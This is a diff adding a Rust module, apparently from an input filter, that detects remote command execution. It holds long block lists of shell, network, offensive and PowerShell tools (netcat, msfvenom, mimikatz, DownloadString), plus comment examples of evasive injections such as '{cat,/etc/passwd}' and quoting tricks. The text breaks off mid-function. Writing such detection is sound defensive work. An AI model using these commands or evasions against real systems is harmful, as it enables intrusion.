@@ -1,0 +1,1662 @@
+//! Remote command execution: commands after shell separators or as a whole command line,
+//! binaries by path, substitutions, shell quoting tricks, Windows `cmd`/PowerShell/batch forms and
+//! mail protocol injection.
+
+use super::{is_word, Rules};
+use crate::lexicon::{Family, Hit};
+
+/// Commands a value should not carry: Unix tools (coreutils, shells, interpreters, network and
+/// admin tools, the GTFOBins kind) and Windows ones. Matched after a shell separator, or at the
+/// start of a value with shell-like arguments.
+pub(super) const STRONG_COMMANDS: &[&str] = &[
+    "wget",
+    "curl",
+    "bash",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "dash",
+    "ash",
+    "fish",
+    "yash",
+    "posh",
+    "elvish",
+    "busybox",
+    "sh",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "iwconfig",
+    "chmod",
+    "chown",
+    "chgrp",
+    "chattr",
+    "lsattr",
+    "setfacl",
+    "getfacl",
+    "nslookup",
+    "passwd",
+    "chpasswd",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "lua",
+    "luajit",
+    "node",
+    "nodejs",
+    "deno",
+    "bun",
+    "irb",
+    "pry",
+    "jjs",
+    "jrunscript",
+    "tclsh",
+    "wish",
+    "expect",
+    "gdb",
+    "lldb",
+    "strace",
+    "ltrace",
+    "valgrind",
+    "nmap",
+    "masscan",
+    "nikto",
+    "hydra",
+    "hashcat",
+    "msfconsole",
+    "msfvenom",
+    "sqlmap",
+    "telnet",
+    "useradd",
+    "adduser",
+    "usermod",
+    "userdel",
+    "deluser",
+    "groupadd",
+    "groupdel",
+    "visudo",
+    "crontab",
+    "sudo",
+    "doas",
+    "su",
+    "systemctl",
+    "journalctl",
+    "loginctl",
+    "timedatectl",
+    "hostnamectl",
+    "pkill",
+    "killall",
+    "nohup",
+    "base64",
+    "base32",
+    "basenc",
+    "xxd",
+    "hexdump",
+    "mkfifo",
+    "mknod",
+    "tftp",
+    "ftp",
+    "lftp",
+    "sftp",
+    "scp",
+    "ssh",
+    "sshpass",
+    "ssh-keygen",
+    "ssh-keyscan",
+    "ssh-agent",
+    "rsync",
+    "gcc",
+    "g++",
+    "cc",
+    "c89",
+    "c99",
+    "clang",
+    "tcc",
+    "nasm",
+    "ld",
+    "chroot",
+    "unshare",
+    "nsenter",
+    "capsh",
+    "setarch",
+    "lsof",
+    "netstat",
+    "iptables",
+    "ip6tables",
+    "nft",
+    "ufw",
+    "tcpdump",
+    "tshark",
+    "ss",
+    "route",
+    "arp",
+    "traceroute",
+    "mtr",
+    "fping",
+    "hping3",
+    "whois",
+    "dig",
+    "host",
+    "ping",
+    "getent",
+    "lastlog",
+    "last",
+    "finger",
+    "pstree",
+    "ps",
+    "top",
+    "htop",
+    "free",
+    "uptime",
+    "vmstat",
+    "iostat",
+    "dmesg",
+    "dmidecode",
+    "lspci",
+    "lsusb",
+    "lsblk",
+    "fdisk",
+    "mkfs",
+    "mount",
+    "umount",
+    "blkid",
+    "printenv",
+    "env",
+    "export",
+    "set",
+    "unset",
+    "alias",
+    "history",
+    "id",
+    "groups",
+    "users",
+    "who",
+    "w",
+    "cat",
+    "tac",
+    "rev",
+    "od",
+    "strings",
+    "head",
+    "tail",
+    "more",
+    "less",
+    "nl",
+    "sort",
+    "uniq",
+    "cut",
+    "paste",
+    "tr",
+    "sed",
+    "awk",
+    "gawk",
+    "mawk",
+    "nawk",
+    "grep",
+    "egrep",
+    "fgrep",
+    "rg",
+    "find",
+    "locate",
+    "xargs",
+    "tee",
+    "wc",
+    "diff",
+    "cmp",
+    "comm",
+    "split",
+    "csplit",
+    "shuf",
+    "fold",
+    "fmt",
+    "column",
+    "expand",
+    "unexpand",
+    "ls",
+    "dir",
+    "vdir",
+    "stat",
+    "file",
+    "du",
+    "df",
+    "touch",
+    "mkdir",
+    "rmdir",
+    "rm",
+    "mv",
+    "cp",
+    "ln",
+    "install",
+    "dd",
+    "shred",
+    "truncate",
+    "tar",
+    "zip",
+    "unzip",
+    "gzip",
+    "gunzip",
+    "bzip2",
+    "xz",
+    "7z",
+    "cpio",
+    "ar",
+    "unrar",
+    "zcat",
+    "zless",
+    "zgrep",
+    "bzcat",
+    "openssl",
+    "gpg",
+    "md5sum",
+    "sha1sum",
+    "sha256sum",
+    "sha512sum",
+    "kill",
+    "sleep",
+    "echo",
+    "printf",
+    "yes",
+    "timeout",
+    "time",
+    "watch",
+    "nice",
+    "renice",
+    "ionice",
+    "taskset",
+    "stdbuf",
+    "setsid",
+    "flock",
+    "script",
+    "screen",
+    "tmux",
+    "tmate",
+    "vi",
+    "vim",
+    "nvim",
+    "vimdiff",
+    "rvim",
+    "rview",
+    "view",
+    "ex",
+    "ed",
+    "nano",
+    "pico",
+    "emacs",
+    "joe",
+    "mcedit",
+    "apt",
+    "apt-get",
+    "aptitude",
+    "dpkg",
+    "rpm",
+    "yum",
+    "dnf",
+    "zypper",
+    "pacman",
+    "apk",
+    "opkg",
+    "snap",
+    "flatpak",
+    "pip",
+    "pip3",
+    "gem",
+    "npm",
+    "npx",
+    "yarn",
+    "pnpm",
+    "composer",
+    "cargo",
+    "go",
+    "make",
+    "cmake",
+    "ant",
+    "mvn",
+    "gradle",
+    "java",
+    "javac",
+    "jar",
+    "docker",
+    "podman",
+    "kubectl",
+    "helm",
+    "lxc",
+    "virsh",
+    "vagrant",
+    "terraform",
+    "ansible",
+    "ansible-playbook",
+    "ansible-config",
+    "ansible-galaxy",
+    "chef",
+    "knife",
+    "puppet",
+    "salt",
+    "salt-call",
+    "git",
+    "svn",
+    "hg",
+    "mysql",
+    "psql",
+    "sqlite3",
+    "redis-cli",
+    "mongo",
+    "mongosh",
+    "cqlsh",
+    "isql",
+    "sqlplus",
+    "mail",
+    "mailx",
+    "sendmail",
+    "mutt",
+    "wall",
+    "write",
+    "mesg",
+    "logger",
+    "at",
+    "batch",
+    "shutdown",
+    "reboot",
+    "halt",
+    "poweroff",
+    "init",
+    "telinit",
+    "service",
+    "update-rc.d",
+    "chkconfig",
+    "runlevel",
+    "ldconfig",
+    "ldd",
+    "readelf",
+    "objdump",
+    "nm",
+    "gdbserver",
+    "perf",
+    "bpftrace",
+    "sysctl",
+    "modprobe",
+    "insmod",
+    "rmmod",
+    "lsmod",
+    "sestatus",
+    "setenforce",
+    "getenforce",
+    "aa-disable",
+    "aa-enforce",
+    "aa-complain",
+    "aa-status",
+    "auditctl",
+    "base58",
+    "bc",
+    "dc",
+    "units",
+    "factor",
+    "jq",
+    "yq",
+    "xmllint",
+    "xsltproc",
+    "pandoc",
+    "latex",
+    "pdflatex",
+    "xelatex",
+    "tex",
+    "man",
+    "info",
+    "links",
+    "lynx",
+    "w3m",
+    "elinks",
+    "aria2c",
+    "axel",
+    "wput",
+    "ncftp",
+    "smbclient",
+    "rpcclient",
+    "enum4linux",
+    "crackmapexec",
+    "impacket-psexec",
+    "evil-winrm",
+    "certbot",
+    "openvpn",
+    "wg",
+    "cowsay",
+    "cowthink",
+    "neofetch",
+    "screenfetch",
+    "ncdu",
+    "iftop",
+    "nethogs",
+    "nload",
+    "bmon",
+    "dstat",
+    "pidstat",
+    "mpstat",
+    "sar",
+    "iotop",
+    "atop",
+    "glances",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "cmd.exe",
+    "certutil",
+    "bitsadmin",
+    "wmic",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "cscript",
+    "wscript",
+    "net",
+    "net1",
+    "netsh",
+    "reg",
+    "regedit",
+    "regini",
+    "sc",
+    "schtasks",
+    "tasklist",
+    "taskkill",
+    "systeminfo",
+    "nltest",
+    "dsquery",
+    "vssadmin",
+    "wevtutil",
+    "bcdedit",
+    "bcdboot",
+    "diskpart",
+    "icacls",
+    "cacls",
+    "takeown",
+    "attrib",
+    "xcopy",
+    "robocopy",
+    "msiexec",
+    "msbuild",
+    "installutil",
+    "regasm",
+    "regsvcs",
+    "forfiles",
+    "pcalua",
+    "cmstp",
+    "odbcconf",
+    "mavinject",
+    "hh",
+    "iex",
+    "iwr",
+    "irm",
+    "ver",
+    "type",
+    "del",
+    "copy",
+    "move",
+    "ren",
+    "start",
+    "call",
+    "for",
+    "pwd",
+    "lsb_release",
+    "getconf",
+    "mkpasswd",
+    "openvt",
+    "runuser",
+    "sudoedit",
+    "chsh",
+    "chfn",
+    "newgrp",
+    "pkexec",
+    "dbus-send",
+    "busctl",
+    "systemd-run",
+    "logrotate",
+    "crond",
+    "anacron",
+    "atq",
+    "atrm",
+    "pgrep",
+    "pidof",
+    "fuser",
+    "nproc",
+    "lscpu",
+    "tree",
+    "realpath",
+    "readlink",
+    "basename",
+    "dirname",
+    "mktemp",
+    "seq",
+    "iconv",
+    "recode",
+    "dos2unix",
+    "uuencode",
+    "uudecode",
+    "mimencode",
+    "gpg2",
+    "ssh-copy-id",
+    "sshfs",
+    "httpie",
+    "aria2c",
+    "youtube-dl",
+    "yt-dlp",
+    "ffmpeg",
+    "magick",
+    "ghostscript",
+    "pdftk",
+    "exiftool",
+    "7za",
+    "rar",
+    "lz4",
+    "zstd",
+    "brotli",
+    "unxz",
+    "xzcat",
+    "bsdtar",
+    "pax",
+    "nmcli",
+    "iwlist",
+    "ethtool",
+    "tc",
+    "conntrack",
+    "ipset",
+    "arping",
+    "tracepath",
+    "nping",
+    "zmap",
+    "dnsenum",
+    "dnsrecon",
+    "fierce",
+    "wpscan",
+    "gobuster",
+    "dirb",
+    "ffuf",
+    "wfuzz",
+    "responder",
+    "mimikatz",
+    "bloodhound",
+    "psexec",
+    "wmiexec",
+    "smbexec",
+    "secretsdump",
+    "kerbrute",
+    "chisel",
+    "ngrok",
+    "frpc",
+    "proxychains",
+    "torsocks",
+    "torify",
+    "socat",
+    "openssl",
+    "s_client",
+    "msfdb",
+    "searchsploit",
+    "john",
+    "unshadow",
+    "hashid",
+    "hash-identifier",
+    "medusa",
+    "ncrack",
+    "patator",
+    "crunch",
+    "cewl",
+    "wordlists",
+    "hexedit",
+    "bvi",
+    "radare2",
+    "r2",
+    "objcopy",
+    "strace",
+    "ltrace",
+    "gdbserver",
+    "checksec",
+    "ropper",
+    "pwntools",
+    "one_gadget",
+    "setcap",
+    "getcap",
+    "capsh",
+    "auditd",
+    "ausearch",
+    "aureport",
+    "last",
+    "lastb",
+    "faillog",
+    "pam_tally2",
+    "chage",
+    "userdbctl",
+    "homectl",
+    "machinectl",
+    "nspawn",
+    "systemd-nspawn",
+    "lxc-attach",
+    "docker-compose",
+    "podman-compose",
+    "kubeadm",
+    "kubelet",
+    "minikube",
+    "kind",
+    "k3s",
+    "crictl",
+    "ctr",
+    "runc",
+    "etcdctl",
+    "consul",
+    "vault",
+    "nomad",
+];
+
+/// Commands that are also everyday words (or names of languages and products): they count only
+/// with a shell-looking argument after them or as the whole remainder of a separator (`;id`).
+pub(super) const WEAK_COMMANDS: &[&str] = &[
+    "as",
+    "ar",
+    "at",
+    "bc",
+    "cat",
+    "comm",
+    "column",
+    "date",
+    "diff",
+    "ed",
+    "expand",
+    "expect",
+    "file",
+    "find",
+    "fish",
+    "fold",
+    "fmt",
+    "format",
+    "free",
+    "grep",
+    "groups",
+    "head",
+    "history",
+    "host",
+    "install",
+    "join",
+    "kill",
+    "last",
+    "less",
+    "links",
+    "look",
+    "mail",
+    "make",
+    "man",
+    "more",
+    "mount",
+    "nano",
+    "nice",
+    "paste",
+    "pr",
+    "red",
+    "rev",
+    "script",
+    "screen",
+    "set",
+    "sort",
+    "split",
+    "start",
+    "tail",
+    "task",
+    "tee",
+    "time",
+    "top",
+    "touch",
+    "type",
+    "users",
+    "view",
+    "wall",
+    "watch",
+    "wc",
+    "which",
+    "who",
+    "w",
+    "yes",
+    "zip",
+    "id",
+    "ps",
+    "ls",
+    "rm",
+    "mv",
+    "cp",
+    "ln",
+    "dd",
+    "df",
+    "du",
+    "nl",
+    "tr",
+    "od",
+    "vi",
+    "ex",
+    "cut",
+    "env",
+    "sed",
+    "awk",
+    "tar",
+    "git",
+    "node",
+    "ruby",
+    "java",
+    "php",
+    "python",
+    "perl",
+    "lua",
+    "mysql",
+    "docker",
+    "helm",
+    "vagrant",
+    "latex",
+    "info",
+    "finger",
+    "route",
+    "ping",
+    "dig",
+    "echo",
+    "printf",
+    "sleep",
+    "stat",
+    "dir",
+    "vdir",
+    "call",
+    "for",
+    "copy",
+    "move",
+    "del",
+    "ren",
+    "ver",
+    "net",
+    "sc",
+    "reg",
+    "init",
+    "service",
+    "apt",
+    "batch",
+    "logger",
+    "write",
+    "units",
+    "factor",
+    "jar",
+    "go",
+    "gem",
+    "npm",
+    "pip",
+    "cargo",
+    "chef",
+    "knife",
+    "puppet",
+    "salt",
+    "snap",
+    "ip",
+    "ss",
+    "su",
+    "alias",
+    "export",
+    "unset",
+    "apk",
+    "dc",
+    "hash",
+    "jq",
+    "wish",
+    "yarn",
+    "ash",
+    "dash",
+    "bash",
+    "posh",
+    "elvish",
+    "bun",
+    "pry",
+    "ruby",
+    "hydra",
+    "lynx",
+    "strings",
+    "shred",
+    "flock",
+    "joe",
+    "rpm",
+    "yum",
+    "pacman",
+    "composer",
+    "ant",
+    "mongo",
+    "mutt",
+    "reboot",
+    "halt",
+    "perf",
+    "axel",
+    "glances",
+    "atop",
+    "sar",
+    "timeout",
+    "vim",
+    "nano",
+    "pico",
+    "clang",
+    "ld",
+    "nft",
+    "mtr",
+    "nm",
+    "tex",
+    "locate",
+    "terraform",
+    "emacs",
+    "screen",
+    "curl",
+    "command",
+    "builtin",
+    "unbuffer",
+];
+
+/// PowerShell and Windows forms that mean command execution anywhere.
+pub(crate) const WINDOWS_MARKERS: &[&str] = &[
+    "invoke-webrequest",
+    "invoke-expression",
+    "invoke-restmethod",
+    "invoke-command",
+    "invoke-item",
+    "new-object",
+    "start-process",
+    "set-executionpolicy",
+    "downloadstring",
+    "downloadfile",
+    "net.webclient",
+    "-encodedcommand",
+    "%comspec%",
+    "%systemroot%",
+    "%systemdrive%",
+    "%windir%",
+    "cmd.exe",
+    "cmd /c",
+    "cmd/c",
+    "powershell",
+    "system.diagnostics.process",
+    "get-childitem",
+    "get-content",
+    "get-process",
+    "get-service",
+    "get-wmiobject",
+    "get-ciminstance",
+    "get-item",
+    "get-itemproperty",
+    "get-acl",
+    "get-credential",
+    "get-clipboard",
+    "get-history",
+    "get-localuser",
+    "get-localgroup",
+    "get-aduser",
+    "get-adcomputer",
+    "get-nettcpconnection",
+    "get-nettcpconnection",
+    "get-psdrive",
+    "get-hotfix",
+    "get-eventlog",
+    "get-winevent",
+    "get-executionpolicy",
+    "get-mppreference",
+    "set-content",
+    "set-item",
+    "set-itemproperty",
+    "set-mppreference",
+    "set-acl",
+    "set-alias",
+    "set-variable",
+    "new-item",
+    "new-itemproperty",
+    "new-psdrive",
+    "new-service",
+    "new-localuser",
+    "new-pssession",
+    "new-scheduledtask",
+    "remove-item",
+    "remove-itemproperty",
+    "remove-mppreference",
+    "invoke-wmimethod",
+    "invoke-cimmethod",
+    "invoke-mimikatz",
+    "invoke-shellcode",
+    "invoke-obfuscation",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "start-job",
+    "start-bitstransfer",
+    "start-service",
+    "stop-process",
+    "stop-service",
+    "out-file",
+    "out-string",
+    "write-output",
+    "write-host",
+    "add-type",
+    "add-content",
+    "add-mppreference",
+    "copy-item",
+    "move-item",
+    "rename-item",
+    "test-path",
+    "test-connection",
+    "test-netconnection",
+    "import-module",
+    "export-csv",
+    "convertto-securestring",
+    "convertfrom-securestring",
+    "select-string",
+    "enter-pssession",
+    "register-scheduledtask",
+    "unblock-file",
+    "expand-archive",
+    "compress-archive",
+    "resolve-dnsname",
+    "send-mailmessage",
+    "[system.convert]::frombase64string",
+    "[convert]::frombase64string",
+    "[system.text.encoding]",
+    "[reflection.assembly]",
+    "system.net.sockets.tcpclient",
+    "system.net.webclient",
+    "-executionpolicy",
+    "-windowstyle",
+    "-noprofile",
+    "-noninteractive",
+    "-nop",
+    "-enc",
+];
+
+impl Rules {
+    /// Remote command execution. `s` is canonical, lower-cased.
+    /// `cs`: the value's punctuation summary.
+    pub(crate) fn rce(
+        &self,
+        s: &[u8],
+        hits: Option<&[Hit]>,
+        cs: crate::chars::Chars,
+        tmp: &mut Vec<u8>,
+    ) -> Option<&'static str> {
+        use crate::chars::*;
+        let f = crate::find;
+        // Shellshock.
+        if cs.any(PAREN) && (f(s, b"() {").is_some() || f(s, b"(){").is_some()) {
+            return Some("rce-shellshock");
+        }
+        let mut own = Vec::new();
+        let hits = match hits {
+            Some(h) => h,
+            None => {
+                self.lexicon.scan(s, &mut own);
+                &own[..]
+            }
+        };
+        for m in hits.iter().filter(|h| h.family == Family::Windows) {
+            let before = m.start.checked_sub(1).map(|i| s[i]);
+            if before.is_none_or(|c| !is_word(c)) {
+                return Some("rce-windows");
+            }
+        }
+        // Undo the quoting tricks shells ignore: c\at, c''at, c""at, ca$@t, $u, ${x}.
+        if !cs.any(BACKSLASH | QUOTE | DOLLAR) {
+            return self.rce_unquoted(s, cs);
+        }
+        tmp.clear();
+        let mut i = 0;
+        while i < s.len() {
+            let c = s[i];
+            if c == b'\\'
+                && s.get(i + 1)
+                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/')
+            {
+                i += 1;
+                continue;
+            }
+            if (c == b'\'' || c == b'"')
+                && s.get(i + 1) == Some(&c)
+                && i > 0
+                && s[i - 1].is_ascii_alphanumeric()
+            {
+                i += 2;
+                continue;
+            }
+            if c == b'$' && i > 0 && is_word(s[i - 1]) {
+                // Special parameters expand to nothing in a word: ca$@t, c$!at, c$-at.
+                if matches!(
+                    s.get(i + 1),
+                    Some(b'@' | b'*' | b'#' | b'?' | b'!' | b'$' | b'-' | b'0'..=b'9')
+                ) {
+                    i += 2;
+                    continue;
+                }
+                // Unset short variables glued to a word: cat$u, /etc$u/passwd, ${x}.
+                let mut j = i + 1;
+                if s.get(j) == Some(&b'{') {
+                    if let Some(q) = memchr::memchr(b'}', &s[j..s.len().min(j + 13)]) {
+                        i = j + q + 1;
+                        continue;
+                    }
+                } else {
+                    while j < s.len() && j < i + 4 && s[j].is_ascii_alphabetic() {
+                        j += 1;
+                    }
+                    if j > i + 1 && s.get(j).is_none_or(|&c| !is_word(c)) {
+                        i = j;
+                        continue;
+                    }
+                }
+            }
+            tmp.push(c);
+            i += 1;
+        }
+        let t = std::mem::take(tmp);
+        let r = self.rce_unquoted(&t, crate::chars::summary(&t));
+        *tmp = t;
+        r
+    }
+
+    fn rce_unquoted(&self, t: &[u8], cs: crate::chars::Chars) -> Option<&'static str> {
+        use crate::chars::*;
+        let f = crate::find;
+        for v in if cs.any(DOLLAR) { &SHELL_VARS[..] } else { &[] } {
+            if f(t, v).is_some() {
+                return Some("rce-shell-variable");
+            }
+        }
+        if cs.any(PERCENT | EQ | SPACE) {
+            if let Some(r) = batch(t) {
+                return Some(r);
+            }
+        }
+        if cs.any(NEWLINE) {
+            if let Some(r) = mail_protocol(t) {
+                return Some(r);
+            }
+        }
+        // Absolute paths to binaries: /bin/sh, /usr/bin/id, with globs: /bin/ca?
+        for dir in if cs.any(SLASH) { &BIN_DIRS[..] } else { &[] } {
+            if let Some(p) = f(t, dir) {
+                let after = &t[p + dir.len()..];
+                let before = p.checked_sub(1).map(|i| t[i]);
+                if after.first().is_some_and(|c| {
+                    c.is_ascii_alphanumeric() || *c == b'?' || *c == b'*' || *c == b'['
+                }) && before.is_none_or(|c| !is_word(c) && c != b'.')
+                {
+                    return Some("rce-binary-path");
+                }
+            }
+        }
+        // Command substitution: $( ... ) and `...`.
+        if let Some(p) = if cs.any(DOLLAR) { f(t, b"$(") } else { None } {
+            let inner = &t[p + 2..];
+            if inner
+                .first()
+                .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'/' || *c == b'(')
+                && memchr::memchr(b')', inner).is_some()
+            {
+                return Some("rce-substitution");
+            }
+        }
+        if let Some(p) = memchr::memchr(b'`', t) {
+            if let Some(q) = memchr::memchr(b'`', &t[p + 1..]) {
+                let inner = t[p + 1..p + 1 + q].trim_ascii();
+                if self.command_at(inner, true).is_some() {
+                    return Some("rce-substitution");
+                }
+            }
+        }
+        // A command after a shell separator, or a command line that is the whole value.
+        let mut at = 0;
+        // The whole value as a command line: quotes and brace expansion around it do not
+        // matter to a shell (`'time' sh -c id`, `{nc,-lvp,777}`).
+        let start = {
+            let mut k = 0;
+            while k < t.len() && matches!(t[k], b'\'' | b'"' | b' ' | b'\t') {
+                k += 1;
+            }
+            &t[k..]
+        };
+        // Brace expansion anywhere: `{cat,/etc/passwd}`, `x;{nc,-lvp,9}`.
+        if cs.any(BRACE) {
+            let mut from = 0;
+            while let Some(p) = memchr::memchr(b'{', &t[from..]) {
+                let inner = &t[from + p + 1..t.len().min(from + p + 1 + 256)];
+                from += p + 1;
+                let w = inner.iter().take(25).position(|&c| c == b',').unwrap_or(0);
+                if w > 0
+                    && memchr::memchr(b'}', inner).is_some_and(|c| c > w)
+                    && self.command_name(&inner[..w]).is_some()
+                {
+                    return Some("rce-command");
+                }
+            }
+        }
+        if let Some(inner) = start.strip_prefix(b"{") {
+            if self.command_at(inner, true).is_some() && memchr::memchr(b',', inner).is_some() {
+                return Some("rce-command");
+            }
+        }
+        // One lookup decides whether the value starts with a command at all.
+        let first_end = start
+            .iter()
+            .position(|&c| {
+                !(c.is_ascii_alphanumeric()
+                    || matches!(c, b'-' | b'_' | b'.' | b'?' | b'*' | b'[' | b']'))
+            })
+            .unwrap_or(start.len());
+        let starts_with_command = first_end > 0
+            && self
+                .command_name(start[..first_end].trim_ascii_end())
+                .is_some()
+            || start[..first_end].ends_with(b".")
+                && self.command_name(&start[..first_end - 1]).is_some();
+        if starts_with_command
+            && (self.command_at(start, false) == Some(true)
+                || self.prefixed_command(start)
+                || self.technical_command(start))
+        {
+            return Some("rce-command");
+        }
+        if let Some(rest) = start
+            .strip_prefix(b"bin/")
+            .or_else(|| start.strip_prefix(b"sbin/"))
+        {
+            if rest.first().is_some_and(|c| c.is_ascii_alphabetic()) {
+                return Some("rce-binary-path");
+            }
+        }
+        if !cs.any(SEMI | NEWLINE | BACKTICK | PIPE | AMP | DOLLAR | LT | GT) {
+            return None;
+        }
+        while at < t.len() {
+            let c = t[at];
+            let sep_len = match c {
+                b';' | b'\n' | b'`' => 1,
+                b'|' | b'&' => {
+                    if t.get(at + 1) == Some(&c) {
+                        2
+                    } else {
+                        1
+                    }
+                }
+                b'$' if t.get(at + 1) == Some(&b'(') => 2,
+                b'>' | b'<' if t.get(at + 1) == Some(&b'(') => 2,
+                _ => 0,
+            };
+            if sep_len > 0 {
+                let rest = &t[at + sep_len..];
+                let blanks = rest
+                    .iter()
+                    .take(16)
+                    .take_while(|c| c.is_ascii_whitespace())
+                    .count();
+                let rest = &rest[blanks..];
+                // Tolerate a leading `.`/`{`/`(`/`!`/`-` grouping: `;{cat,/etc/passwd}`.
+                let rest = rest
+                    .strip_prefix(b"{")
+                    .or_else(|| rest.strip_prefix(b"("))
+                    .or_else(|| rest.strip_prefix(b". "))
+                    .unwrap_or(rest);
+                if self.command_at(rest, true).is_some() {
+                    return Some("rce-command");
+                }
+                at += sep_len;
+            } else {
+                at += 1;
+            }
+        }
+        None
+    }
+
+    /// Whether `s` starts with a command. With `after_sep`, a strong command counts as it is and
+    /// a weak one with a shell-looking argument or nothing after it; without, only a command
+    /// with a shell-looking argument counts (returned as `Some(true)`).
+    fn command_at(&self, s: &[u8], after_sep: bool) -> Option<bool> {
+        let mut end = 0;
+        while end < s.len()
+            && (s[end].is_ascii_alphanumeric()
+                || matches!(s[end], b'-' | b'_' | b'.' | b'?' | b'*' | b'[' | b']'))
+        {
+            end += 1;
+        }
+        if end == 0 {
+            return None;
+        }
+        let mut word = &s[..end];
+        // A path prefix: ./x, ~/x are handled by the caller; strip trailing dots.
+        while word.last() == Some(&b'.') {
+            word = &word[..word.len() - 1];
+        }
+        let word = self.command_name(word)?;
+        let weak = self.weak.contains(word);
+        let rest = &s[end..];
+        let arg = rest.trim_ascii_start();
+        let spaced = rest.len() != arg.len() || rest.first().is_some_and(|&c| c == b'\t');
+        let shell_arg = arg.first().is_some_and(|&c| {
+            matches!(
+                c,
+                b'-' | b'/'
+                    | b'$'
+                    | b'~'
+                    | b'.'
+                    | b'>'
+                    | b'<'
+                    | b'|'
+                    | b';'
+                    | b'&'
+                    | b'`'
+                    | b'\''
+                    | b'"'
+                    | b'*'
+                    | b'{'
+                    | b'+'
+                    | b'%'
+                    | b'\\'
+            )
+        }) || memchr::memchr(b'/', arg)
+            .is_some_and(|p| p < 32 && !arg[..p].contains(&b' '))
+            || (!arg.is_empty() && memchr::memchr3(b';', b'|', b'&', arg).is_some())
+            || looks_like_host(arg);
+        if after_sep {
+            if arg.is_empty() {
+                // `;id`, `|ls`: a bare command ends the value. Everyday words (`; more`,
+                // `& red`) do not count bare.
+                const BARE: &[&[u8]] = &[
+                    b"id", b"ls", b"ps", b"w", b"who", b"env", b"pwd", b"df", b"du", b"dir",
+                    b"ver", b"sh", b"su", b"vi",
+                ];
+                return (!weak || BARE.contains(&word)).then_some(false);
+            }
+            if !spaced
+                && !rest.is_empty()
+                && !matches!(
+                    rest[0],
+                    b';' | b'|' | b'&' | b'<' | b'>' | b'}' | b')' | b','
+                )
+            {
+                return None;
+            }
+            if !weak || shell_arg {
+                return Some(false);
+            }
+            // `;cat passwd`: a weak word followed by one plain word and nothing else.
+            return None;
+        }
+        if spaced && shell_arg && !weak {
+            return Some(true);
+        }
+        None
+    }
+
+    /// The command a word names: itself, without a version (`python3.10`, `php7`), or the part
+    /// before a dash (`ansible-config`); a glob (`ca?`) that matches one.
+    fn command_name<'a>(&self, word: &'a [u8]) -> Option<&'a [u8]> {
+        if self.commands.contains(word) {
+            return Some(word);
+        }
+        let bare = {
+            let mut e = word.len();
+            while e > 0 && (word[e - 1].is_ascii_digit() || word[e - 1] == b'.') {
+                e -= 1;
+            }
+            &word[..e]
+        };
+        if bare.len() >= 2
+            && bare.len() < word.len()
+            && self.commands.contains(bare)
+            && !self.weak.contains(bare)
+        {
+            return Some(bare);
+        }
+        if let Some(d) = word.iter().position(|&c| c == b'-') {
+            let head = &word[..d];
+            if head.len() >= 3 && self.commands.contains(head) && !self.weak.contains(head) {
+                return Some(head);
+            }
+        }
+        if glob_matches_command(word) {
+            return Some(word);
+        }
+        None
+    }
+
+    /// A value that is a command line of a tool no prose names (`visudo`, `nmap -sS x`,
+    /// `ansible all -m ping`): the command alone or followed by a blank.
+    fn technical_command(&self, s: &[u8]) -> bool {
+        let end = s
+            .iter()
+            .position(|&c| !(c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.')))
+            .unwrap_or(s.len());
+        if end < 2 {
+            return false;
+        }
+        let rest = &s[end..];
+        if !rest.is_empty() && !rest[0].is_ascii_whitespace() {
+            return false;
+        }
+        self.command_name(&s[..end])
+            .is_some_and(|name| !self.weak.contains(name))
+    }
+
+    /// `time sh -c id`, `nohup who`, `strace id`: a command runner followed by a command.
+    fn prefixed_command(&self, s: &[u8]) -> bool {
+        const RUNNERS: &[&[u8]] = &[
+            b"time",
+            b"nohup",
+            b"strace",
+            b"ltrace",
+            b"nice",
+            b"sudo",
+            b"doas",
+            b"env",
+            b"timeout",
+            b"xargs",
+            b"exec",
+            b"command",
+            b"builtin",
+            b"stdbuf",
+            b"chroot",
+            b"busybox",
+            b"watch",
+            b"unbuffer",
+            b"setsid",
+            b"taskset",
+            b"ionice",
+            b"su",
+        ];
+        let end = s
+            .iter()
+            .position(|c| !c.is_ascii_alphanumeric())
+            .unwrap_or(s.len());
+        if end == 0 || !RUNNERS.contains(&&s[..end]) {
+            return false;
+        }
+        let rest = &s[end..];
+        let arg = rest.trim_ascii_start();
+        if arg.len() == rest.len() {
+            return false;
+        }
+        let arg = arg.strip_prefix(b"-").map_or(arg, |a| {
+            // Skip one option (`timeout -s 9`, `nice -n 5`).
+            let e = a.iter().position(|&c| c == b' ').unwrap_or(a.len());
+            a[e..].trim_ascii_start()
+        });
+        let w = arg
+            .iter()
+            .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_' || *c == b'-' || *c == b'.'))
+            .unwrap_or(arg.len());
+        w > 0
+            && (STRONG_COMMANDS.iter().any(|c| c.as_bytes() == &arg[..w]) || arg.starts_with(b"/"))
+    }
+}
+
+/// Windows batch control flow: `for [/d|/r|/l|/f ...] %x in (...) do ...` and
+/// `if [/i] [not] exist|defined|errorlevel ...` or `if a==b cmd`.
+fn batch(t: &[u8]) -> Option<&'static str> {
+    let words = |s: &[u8]| -> bool {
+        s.first().is_some_and(|c| {
+            c.is_ascii_whitespace()
+                || *c == b'/'
+                || *c == b'('
+                || *c == b'"'
+                || *c == b'['
+                || *c == b'%'
+        })
+    };
+    let mut from = 0;
+    // Look at the first 64 `for`/`if` candidates at most: a value of `if if if ...` must not
+    // cost a scan per word.
+    let mut budget = 64;
+    while from < t.len() && budget > 0 {
+        budget -= 1;
+        let seg = &t[from..];
+        let at_boundary = from == 0 || !is_word(t[from - 1]);
+        if at_boundary && seg.starts_with(b"for") && words(&seg[3..]) {
+            // `%x in (` ... `) do`
+            let body = &seg[3..seg.len().min(400)];
+            if let Some(p) = memchr::memchr(b'%', body) {
+                let after = &body[p..];
+                if let Some(q) = crate::find(after, b" in ") {
+                    let tail = &after[q + 4..];
+                    if tail.trim_ascii_start().starts_with(b"(") {
+                        if let Some(c) = memchr::memchr(b')', tail) {
+                            if tail[c + 1..].trim_ascii_start().starts_with(b"do") {
+                                return Some("rce-windows-batch");
+                            }
+                        }
+                    }
+                }
+            }
+        }
